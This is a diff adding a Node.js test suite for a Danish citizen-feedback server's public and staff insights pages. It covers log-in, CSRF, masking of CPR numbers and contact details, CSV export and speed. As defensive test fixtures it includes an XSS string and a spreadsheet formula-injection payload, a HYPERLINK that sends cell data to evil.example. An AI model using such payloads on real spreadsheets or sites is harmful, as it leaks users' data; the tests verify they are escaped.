@@ -1,0 +1,383 @@
+// The insights pages against a real server: the public page has numbers and published changes
+// but no citizen's words; the staff view (KLAR_STAFF_TOKEN) masks CPR numbers, e-mail addresses
+// and phone numbers with the shared detector, filters, exports CSV and publishes
+// "Du sagde – vi gjorde"; and the pages answer in under a second over 100,000 records.
+import { test, describe, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { readFileSync, rmSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
+import { csvCell } from '../../../server/insights-staff.js';
+import { CPR_SPELLINGS, digitsOf } from '../../helpers/cpr-table.js';
+import { storedRecord, writeGeneratedFeedback } from '../../helpers/feedback-records.js';
+import { quickFeedback, startTestServer, tempDataDir } from '../../helpers/reference-server.js';
+
+const TOKEN = 'staff-secret-token-for-tests';
+const bearer = { Authorization: `Bearer ${TOKEN}` };
+
+/** @param {string} url @param {Record<string, unknown>} body */
+const post = async (url, body) => {
+  const res = await fetch(`${url}/api/feedback`, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(body) });
+  assert.equal(res.status, 201, await res.clone().text());
+  return res.json();
+};
+
+/** Letters only, so a marker never adds digits to a leak check. @param {number} i */
+const marker = (i) => `mrk${String.fromCharCode(97 + Math.floor(i / 26), 97 + (i % 26))}q`;
+
+/**
+ * The comments on the staff page, by marker: the text of each comment's paragraphs.
+ * @param {string} html
+ */
+const commentsOf = (html) => [...html.matchAll(/<li class="comment">([\s\S]*?)<\/li>/g)].map((m) => m[1]);
+
+/**
+ * Parses CSV (RFC 4180: quoted cells, doubled quotes, CRLF) into rows of cells.
+ * @param {string} text
+ */
+function parseCsv(text) {
+  /** @type {string[][]} */
+  const rows = [];
+  let row = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const ch = text[i];
+    if (quoted) {
+      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
+      else if (ch === '"') quoted = false;
+      else cell += ch;
+    } else if (ch === '"') quoted = true;
+    else if (ch === ',') row.push(cell), (cell = '');
+    else if (ch === '\r' && text[i + 1] === '\n') {
+      row.push(cell);
+      rows.push(row);
+      (row = []), (cell = ''), i++;
+    } else cell += ch;
+  }
+  return rows;
+}
+
+/**
+ * Logs in through the form; returns the session cookie and the page's CSRF token.
+ * @param {string} url
+ */
+async function login(url) {
+  const res = await fetch(`${url}/insights/staff/login`, { method: 'POST', headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams({ token: TOKEN }), redirect: 'manual' });
+  assert.equal(res.status, 303);
+  assert.equal(res.headers.get('location'), '/insights/staff');
+  const setCookie = res.headers.get('set-cookie') ?? '';
+  const cookie = setCookie.split(';')[0];
+  const page = await (await fetch(`${url}/insights/staff`, { headers: { Cookie: cookie } })).text();
+  const csrf = /name="csrf" value="([^"]+)"/.exec(page)?.[1] ?? '';
+  return { setCookie, cookie, csrf, page };
+}
+
+describe('insights', () => {
+  /** @type {Awaited<ReturnType<typeof startTestServer>>} */
+  let srv;
+  before(async () => {
+    srv = await startTestServer({ staffToken: TOKEN });
+    for (const [i, [spelling]] of CPR_SPELLINGS.entries()) {
+      await post(srv.url, quickFeedback({ answers: { helped: i % 3 ? 'yes' : 'no', comment: `${marker(i)} Mit CPR-nummer er ${spelling}, tak.` }, principle: 'haand-om-fejl' }));
+    }
+    await post(srv.url, quickFeedback({ answers: { helped: 'no', comment: 'kontaktq Skriv til borger.hansen@example.dk eller ring på 12 34 56 78 eller +45 87 65 43 21.' } }));
+    await post(srv.url, quickFeedback({ answers: { helped: 'yes', comment: '<script>alert(1)</script> htmlq' } }));
+    await post(srv.url, quickFeedback({ answers: { helped: 'yes', comment: 'ikkecprq Sag 2026-000123 og 320299-1234 er ikke CPR.' } }));
+  });
+  after(async () => {
+    await srv.stop();
+  });
+
+  test('the public page shows numbers and charts, and not one word a citizen wrote', async () => {
+    const res = await fetch(`${srv.url}/insights`);
+    assert.equal(res.status, 200);
+    assert.match(res.headers.get('content-security-policy') ?? '', /default-src 'none'.*style-src 'self'/);
+    const html = await res.text();
+    for (const word of ['Mit CPR-nummer', 'tak.', 'borger.hansen', 'alert', 'Sag 2026', 'Kommentar:', 'Kvittering']) assert.ok(!html.includes(word), `"${word}" is on the public page`);
+    for (let i = 0; i < CPR_SPELLINGS.length; i++) assert.ok(!html.includes(marker(i)), `comment ${i} is on the public page`);
+    assert.ok(!/mrk|kontaktq|htmlq|ikkecprq/.test(html), 'no comment marker');
+    assert.doesNotMatch(html, /<script|\sstyle=|<style/, 'no script, no inline style');
+    // Three charts, each an image with a name and followed by its table.
+    assert.equal((html.match(/<svg class="chart"[^>]*role="img"[^>]*aria-label="[^"]+"/g) ?? []).length, 3);
+    assert.equal((html.match(/<caption>Tallene bag grafen: /g) ?? []).length, 3);
+    assert.match(html, /<caption>Tallene bag grafen: Svar pr. løfte<\/caption>[\s\S]*?<th scope="row">Hånd om fejl<\/th><td class="num">55<\/td>/);
+    const total = CPR_SPELLINGS.length + 3;
+    assert.match(html, new RegExp(`I alt <strong>${total}</strong>`));
+    assert.match(html, /Du sagde – vi gjorde/);
+    assert.match(html, /<link rel="stylesheet" href="\/insights.css">/);
+    const css = await fetch(`${srv.url}/insights.css`);
+    assert.equal(css.status, 200);
+    assert.match(css.headers.get('content-type') ?? '', /text\/css/);
+    const summary = await (await fetch(`${srv.url}/api/feedback/summary`)).json();
+    assert.equal(summary.total, total);
+    assert.equal(summary.principles['haand-om-fejl'], CPR_SPELLINGS.length);
+  });
+
+  test('the staff view is off, with a plain message, when KLAR_STAFF_TOKEN is not set', async () => {
+    const off = await startTestServer();
+    try {
+      for (const p of ['/insights/staff', '/insights/staff/export.csv']) {
+        const res = await fetch(`${off.url}${p}`, { headers: bearer });
+        assert.equal(res.status, 403);
+        assert.match(await res.text(), /Medarbejdervisningen er slået fra[\s\S]*KLAR_STAFF_TOKEN/);
+      }
+    } finally {
+      await off.stop();
+    }
+  });
+
+  test('the staff view needs the token: a log-in form, a Bearer header, or the session cookie', async () => {
+    const anon = await fetch(`${srv.url}/insights/staff`);
+    assert.equal(anon.status, 401);
+    assert.match(anon.headers.get('www-authenticate') ?? '', /^Bearer/);
+    const form = await anon.text();
+    assert.match(form, /<form method="post" action="\/insights\/staff\/login"/);
+    assert.ok(!form.includes('mrk'), 'no comment before log-in');
+    assert.equal((await fetch(`${srv.url}/insights/staff/export.csv`)).status, 401);
+    assert.equal((await fetch(`${srv.url}/insights/staff`, { headers: { Authorization: 'Bearer wrong' } })).status, 401);
+    const wrong = await fetch(`${srv.url}/insights/staff/login`, { method: 'POST', headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, body: 'token=wrong', redirect: 'manual' });
+    assert.equal(wrong.status, 401);
+    assert.match(await wrong.text(), /Nøglen passer ikke/);
+    assert.equal(wrong.headers.get('set-cookie'), null);
+
+    const s = await login(srv.url);
+    assert.match(s.setCookie, /^klar_staff=[\w-]{40,}; Path=\/insights\/staff; HttpOnly; SameSite=Strict; Max-Age=28800$/);
+    assert.ok(!s.setCookie.includes(TOKEN), 'the cookie is a session id, not the token');
+    assert.match(s.page, /Borgernes kommentarer/);
+    assert.ok(s.csrf.length >= 40, 'the page carries a CSRF token');
+    const viaBearer = await fetch(`${srv.url}/insights/staff`, { headers: bearer });
+    assert.equal(viaBearer.status, 200);
+    assert.equal(viaBearer.headers.get('cache-control'), 'no-store');
+    assert.equal(viaBearer.headers.get('x-robots-tag'), 'noindex');
+
+    const out = await fetch(`${srv.url}/insights/staff/logout`, { method: 'POST', headers: { Cookie: s.cookie, 'Content-Type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams({ csrf: s.csrf }), redirect: 'manual' });
+    assert.equal(out.status, 303);
+    assert.match(out.headers.get('set-cookie') ?? '', /Max-Age=0/);
+    assert.equal((await fetch(`${srv.url}/insights/staff`, { headers: { Cookie: s.cookie } })).status, 401, 'the session ended');
+  });
+
+  test('production sessions are Secure cookies', async () => {
+    const prod = await startTestServer({ staffToken: TOKEN, production: true });
+    try {
+      const res = await fetch(`${prod.url}/insights/staff/login`, { method: 'POST', headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams({ token: TOKEN }), redirect: 'manual' });
+      assert.match(res.headers.get('set-cookie') ?? '', /; Secure$/);
+    } finally {
+      await prod.stop();
+    }
+  });
+
+  test('staff see every comment with CPR numbers (all spellings), e-mail addresses and phone numbers masked', async () => {
+    const html = await (await fetch(`${srv.url}/insights/staff`, { headers: bearer })).text();
+    const comments = commentsOf(html);
+    for (const [i, [spelling, what, digits]] of CPR_SPELLINGS.entries()) {
+      const c = comments.find((x) => x.includes(marker(i)));
+      assert.ok(c, `comment ${i} (${what}) is listed`);
+      assert.match(c, /Mit CPR-nummer er \W{0,2}\[CPR fjernet\]\W{0,2}, tak\./, `${what}: ${c}`);
+      assert.ok(!digitsOf(c).includes(digits), `${what}: the digits leak: ${c}`);
+      assert.ok(!c.includes(spelling), what);
+    }
+    const contact = comments.find((x) => x.includes('kontaktq')) ?? '';
+    assert.match(contact, /Skriv til \[e-mail fjernet\] eller ring på \[telefon fjernet\] eller \[telefon fjernet\]\./);
+    assert.ok(!/hansen|example\.dk|12 34|87 65/.test(contact), contact);
+    const notCpr = comments.find((x) => x.includes('ikkecprq')) ?? '';
+    assert.match(notCpr, /Sag 2026-000123 og 320299-1234 er ikke CPR/, 'numbers that are not CPR numbers stay');
+    const hostile = comments.find((x) => x.includes('htmlq')) ?? '';
+    assert.match(hostile, /&#60;script&#62;alert\(1\)&#60;\/script&#62;/);
+    assert.doesNotMatch(html, /<script/);
+  });
+
+  test('the CSV export has every matching record, masked, escaped, and safe from formula injection', async () => {
+    await post(srv.url, quickFeedback({ answers: { helped: 'no', comment: '=HYPERLINK("http://evil.example/?x="&A1;"klik") csvq' }, principle: 'klar-tale' }));
+    await post(srv.url, quickFeedback({ answers: { helped: 'no', comment: '+1 linje et\nlinje "to", med komma' }, principle: 'klar-tale' }));
+    await post(srv.url, quickFeedback({ answers: { helped: 'no', comment: '@SUM(A1:A9)' }, principle: 'klar-tale' }));
+    await post(srv.url, quickFeedback({ answers: { helped: 'no', comment: '-2+3 ring 12345678' }, principle: 'klar-tale' }));
+    const res = await fetch(`${srv.url}/insights/staff/export.csv?principle=klar-tale`, { headers: bearer });
+    assert.equal(res.status, 200);
+    assert.match(res.headers.get('content-type') ?? '', /^text\/csv; charset=utf-8/);
+    assert.match(res.headers.get('content-disposition') ?? '', /^attachment; filename="klar-feedback-\d{4}-\d{2}-\d{2}\.csv"$/);
+    const text = await res.text();
+    assert.ok(text.endsWith('\r\n'));
+    const rows = parseCsv(text.replace(/^\uFEFF/, ''));
+    assert.equal(rows[0][0], 'Kvittering');
+    const col = rows[0].indexOf('Kommentar');
+    assert.deepEqual(
+      rows.slice(1).map((r) => r[col]),
+      ['\'=HYPERLINK("http://evil.example/?x="&A1;"klik") csvq', '\'+1 linje et\nlinje "to", med komma', "'@SUM(A1:A9)", "'-2+3 ring [telefon fjernet]"],
+    );
+    assert.ok(rows.slice(1).every((r) => r.length === rows[0].length && r[rows[0].indexOf('Løfte')] === 'Klar tale'));
+    for (const [v, want] of [
+      ['\t=1', "'\t=1"],
+      ['\r=1', `"'\r=1"`],
+      ['a"b', '"a""b"'],
+      [' lead', '" lead"'],
+      ['plain', 'plain'],
+      ['', ''],
+    ]) {
+      assert.equal(csvCell(v), want, JSON.stringify(v));
+    }
+    // Everything, unfiltered: one row per stored record, no CPR digits anywhere.
+    const all = await (await fetch(`${srv.url}/insights/staff/export.csv`, { headers: bearer })).text();
+    const allRows = parseCsv(all.replace(/^\uFEFF/, '')).slice(1);
+    assert.equal(allRows.length, srv.store.records.length);
+    for (const [i, [, what, digits]] of CPR_SPELLINGS.entries()) {
+      const row = allRows.find((r) => r[col].includes(marker(i)));
+      assert.ok(row && !digitsOf(row[col]).includes(digits) && row[col].includes('[CPR fjernet]'), `${what}: ${row?.[col]}`);
+    }
+  });
+
+  test('"Du sagde – vi gjorde": staff publish with a CSRF token, it is stored durably and the public page shows it', async () => {
+    const s = await login(srv.url);
+    const form = (/** @type {Record<string, string>} */ fields, /** @type {Record<string, string>} */ headers = { Cookie: s.cookie }) =>
+      fetch(`${srv.url}/insights/staff/published`, { method: 'POST', headers: { 'Content-Type': 'application/x-www-form-urlencoded', ...headers }, body: new URLSearchParams(fields), redirect: 'manual' });
+    const entry = { said: 'I sagde, at brevet om byggesagen var svært at forstå (fx 010203-1234).', did: 'Vi har skrevet brevet om, så det første afsnit siger, hvad der sker nu.', principle: 'klar-tale' };
+    assert.equal((await form(entry)).status, 403, 'no CSRF token');
+    assert.equal((await form({ ...entry, csrf: 'x'.repeat(s.csrf.length) })).status, 403, 'a wrong CSRF token');
+    assert.equal((await form({ ...entry, csrf: s.csrf }, {})).status, 401, 'no session');
+    const missing = await form({ said: 'Kun halvdelen', did: '', csrf: s.csrf });
+    assert.equal(missing.status, 422);
+    assert.match(await missing.text(), /Skriv både hvad borgerne sagde, og hvad I gjorde[\s\S]*Kun halvdelen/);
+    const ok = await form({ ...entry, csrf: s.csrf });
+    assert.equal(ok.status, 303);
+    assert.match(ok.headers.get('location') ?? '', /^\/insights\/staff\?published=1/);
+    // Scripts publish with the Bearer header alone.
+    assert.equal((await form({ said: 'Svar via script.', did: 'Publiceret med Bearer.' }, bearer)).status, 303);
+
+    const stored = readFileSync(path.join(srv.dataDir, 'published.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l));
+    assert.equal(stored.length, 2);
+    assert.equal(stored[0].did, entry.did);
+    assert.match(stored[0].said, /\(fx \[CPR fjernet\]\)/, 'a CPR number staff quoted is masked before it goes public');
+    const pub = await (await fetch(`${srv.url}/insights`)).text();
+    assert.match(pub, /<strong>Du sagde:<\/strong> I sagde, at brevet om byggesagen var svært at forstå \(fx \[CPR fjernet\]\)\./);
+    assert.match(pub, /<strong>Vi gjorde:<\/strong> Vi har skrevet brevet om/);
+    assert.match(pub, /Løfte: Klar tale/);
+    assert.ok(pub.indexOf('Publiceret med Bearer') < pub.indexOf('Vi har skrevet brevet om'), 'newest first');
+  });
+
+  test('published entries survive a restart; a torn last line is cut off', async () => {
+    const dataDir = tempDataDir();
+    try {
+      const first = await startTestServer({ dataDir, staffToken: TOKEN });
+      await fetch(`${first.url}/insights/staff/published`, { method: 'POST', headers: { ...bearer, 'Content-Type': 'application/x-www-form-urlencoded' }, body: 'said=Det+tog+for+lang+tid&did=Vi+svarer+nu+inden+for+en+uge' });
+      await first.stop(true);
+      writeFileSync(path.join(dataDir, 'published.jsonl'), `${readFileSync(path.join(dataDir, 'published.jsonl'), 'utf8')}{"id":"torn","sa`);
+      const second = await startTestServer({ dataDir, staffToken: TOKEN });
+      try {
+        assert.match(await (await fetch(`${second.url}/insights`)).text(), /Vi svarer nu inden for en uge/);
+        assert.ok(second.log.lines.warn.some((w) => /published\.jsonl: the last line was cut off/.test(w)));
+        assert.ok(readFileSync(path.join(dataDir, 'published.jsonl'), 'utf8').endsWith('}\n'));
+      } finally {
+        await second.stop(true);
+      }
+    } finally {
+      rmSync(dataDir, { recursive: true, force: true });
+    }
+  });
+});
+
+describe('staff filters', () => {
+  /** @type {Awaited<ReturnType<typeof startTestServer>>} */
+  let srv;
+  before(async () => {
+    const dataDir = tempDataDir();
+    const records = [
+      storedRecord(1, '2026-03-02T10:00:00Z', { mode: 'quick', answers: { helped: 'no', comment: 'alfaq' }, principle: 'klar-tale', pageUrl: 'http://x/byggesag', step: 'modtaget' }),
+      storedRecord(2, '2026-03-09T10:00:00Z', { mode: 'quick', answers: { helped: 'yes', comment: 'betaq' }, principle: 'klar-tale', pageUrl: 'http://x/byggesag', step: 'behandles' }),
+      storedRecord(3, '2026-03-16T10:00:00Z', { mode: 'quick', answers: { helped: 'no', comment: 'gammaq' }, principle: 'udvikling', pageUrl: 'http://x/parkering', step: 'behandles' }),
+      storedRecord(4, '2026-03-31T22:30:00Z', { mode: 'quick', answers: { helped: 'yes', comment: 'deltaq' }, principle: 'udvikling', pageUrl: 'http://x/byggesag?ref=1', step: 'afgjort' }),
+      storedRecord(5, '2026-04-06T10:00:00Z', { mode: 'full', answers: { rating: { value: 2, label: 'Dårligt' }, improve: 'epsilonq' }, principle: 'klar-tale', pageUrl: 'http://x/byggesag' }),
+    ];
+    writeFileSync(path.join(dataDir, 'feedback.jsonl'), records.map((r) => `${JSON.stringify(r)}\n`).join(''));
+    srv = await startTestServer({ dataDir, staffToken: TOKEN });
+  });
+  after(async () => {
+    await srv.stop();
+    rmSync(srv.dataDir, { recursive: true, force: true });
+  });
+
+  /** @param {string} query */
+  const shown = async (query) => {
+    const html = await (await fetch(`${srv.url}/insights/staff?${query}`, { headers: bearer })).text();
+    const words = commentsOf(html).map((c) => /(alfa|beta|gamma|delta|epsilon)q/.exec(c)?.[0]);
+    const csv = await (await fetch(`${srv.url}/insights/staff/export.csv?${query}`, { headers: bearer })).text();
+    const receipts = parseCsv(csv.replace(/^\uFEFF/, '')).slice(1).map((r) => r[0]);
+    return { html, words, receipts, total: Number(/<strong>(\d+)<\/strong> svar passer/.exec(html)?.[1]) };
+  };
+
+  test('by period (Danish days), principle, page and case step; the form shows the choice', async () => {
+    const all = await shown('');
+    assert.deepEqual(all.words, ['epsilonq', 'deltaq', 'gammaq', 'betaq', 'alfaq'], 'newest first');
+    assert.equal(all.total, 5);
+
+    // 31 March 22:30 UTC is 1 April in Copenhagen (summer time).
+    const april = await shown('from=2026-04-01&to=2026-04-30');
+    assert.deepEqual(april.words, ['epsilonq', 'deltaq']);
+    assert.deepEqual(april.receipts, ['KF-000004', 'KF-000005']);
+    assert.match(april.html, /<input id="f-from" name="from" type="date" value="2026-04-01">/);
+
+    const principle = await shown('principle=klar-tale');
+    assert.deepEqual(principle.words, ['epsilonq', 'betaq', 'alfaq']);
+    assert.match(principle.html, /<option value="klar-tale" selected>Klar tale<\/option>/);
+
+    const page = await shown('page=%2Fbyggesag');
+    assert.deepEqual(page.receipts, ['KF-000001', 'KF-000002', 'KF-000004', 'KF-000005'], 'the page is its path, without the query');
+
+    const step = await shown('step=behandles');
+    assert.deepEqual(step.words, ['gammaq', 'betaq']);
+    assert.match(step.html, /<option value="behandles" selected>behandles \(2\)<\/option>/);
+
+    const combined = await shown('principle=klar-tale&step=behandles&from=2026-03-01&to=2026-03-31');
+    assert.deepEqual(combined.receipts, ['KF-000002']);
+    assert.equal(combined.total, 1);
+    assert.match(combined.html, /href="\/insights\/staff\/export\.csv\?from=2026-03-01&#38;to=2026-03-31&#38;principle=klar-tale&#38;step=behandles"/);
+
+    const bad = await shown('from=gisp&principle=nope');
+    assert.equal(bad.total, 5, 'values that cannot be right are dropped');
+    assert.match(bad.html, /Datoen &#34;gisp&#34; kunne ikke læses[\s\S]*Løftet &#34;nope&#34; kendes ikke/);
+  });
+
+  test('the staff charts follow the filter', async () => {
+    const { html } = await shown('principle=udvikling');
+    assert.match(html, /<caption>Tallene bag grafen: Svar pr. løfte<\/caption>[\s\S]*?<tbody>\n<tr><th scope="row">Udvikling<\/th><td class="num">2<\/td><\/tr>\n<\/tbody>/);
+  });
+});
+
+describe('insights over 100,000 records', () => {
+  test('the public page and the staff view answer in under a second, and new posts are counted at once', { timeout: 180_000 }, async () => {
+    const dataDir = tempDataDir();
+    const N = 100_000;
+    writeGeneratedFeedback(path.join(dataDir, 'feedback.jsonl'), N);
+    const t0 = performance.now();
+    const srv = await startTestServer({ dataDir, staffToken: TOKEN });
+    const startMs = performance.now() - t0;
+    try {
+      /** @param {string} p @param {Record<string, string>} [headers] */
+      const timed = async (p, headers = {}) => {
+        const t = performance.now();
+        const res = await fetch(`${srv.url}${p}`, { headers });
+        const body = await res.text();
+        return { ms: performance.now() - t, status: res.status, body };
+      };
+      const median = async (/** @type {string} */ p, /** @type {Record<string, string>} */ headers = {}) => {
+        const runs = [];
+        for (let i = 0; i < 5; i++) runs.push(await timed(p, headers));
+        for (const r of runs) assert.equal(r.status, 200);
+        return { ms: runs.map((r) => r.ms).sort((a, b) => a - b)[2], first: runs[0].ms, body: runs[0].body };
+      };
+      const pub = await median('/insights');
+      assert.match(pub.body, new RegExp(`I alt <strong>${new Intl.NumberFormat('da-DK').format(N)}</strong>`));
+      const staff = await median('/insights/staff', bearer);
+      const filtered = await median('/insights/staff?principle=klar-tale&step=behandles&page=%2Fbyggesag', bearer);
+      const summary = await median('/api/feedback/summary');
+      console.info(
+        `# 100,000 records: server start ${startMs.toFixed(0)} ms; /insights ${pub.ms.toFixed(1)} ms (first ${pub.first.toFixed(1)}); /insights/staff ${staff.ms.toFixed(1)} ms (first ${staff.first.toFixed(1)}); filtered ${filtered.ms.toFixed(1)} ms; summary ${summary.ms.toFixed(1)} ms`,
+      );
+      for (const [name, r] of [['public', pub], ['staff', staff], ['filtered', filtered], ['summary', summary]]) {
+        assert.ok(/** @type {any} */ (r).first < 1000 && /** @type {any} */ (r).ms < 1000, `${name}: ${JSON.stringify({ first: /** @type {any} */ (r).first, median: /** @type {any} */ (r).ms })}`);
+      }
+      await post(srv.url, quickFeedback());
+      assert.match((await timed('/insights')).body, new RegExp(`I alt <strong>${new Intl.NumberFormat('da-DK').format(N + 1)}</strong>`));
+    } finally {
+      await srv.stop();
+    }
+  });
+});
